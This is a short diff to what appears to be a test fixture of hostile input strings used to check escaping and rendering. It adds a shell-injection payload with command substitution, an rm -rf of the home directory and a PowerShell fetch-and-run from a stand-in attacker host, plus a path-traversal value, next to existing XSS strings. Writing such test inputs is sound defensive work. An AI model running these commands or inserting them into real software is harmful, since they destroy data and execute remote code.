@@ -58,6 +58,9 @@ PAYLOADS: dict[str, str] = {
     "html_js": "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;\"'",
     "md_blocks": "# H1\n> quote\n```\nfence\n| a | b |\n|---|---|\n1. item\n---",
     "md_inline": "![img](https://evil.example/x.png) [click](javascript:alert(1)) &#x202e;",
+    "md_emphasis_urls": "_em_ *b* ~~s~~ `code` | cell | https://evil.example www.evil.ex a@b.c",
+    "shell": "$(touch PWNED)`id`;rm -rf ~|sh&&'\"\u2019$(iex(iwr('http://evil.example')))",
+    "path_traversal": "x/../../servicePrincipals/1?$select=id#%2F..%2F",
 }
 # Everything at once, for the per-field run.
 COMBINED = "".join(v for k, v in PAYLOADS.items() if k != "huge")
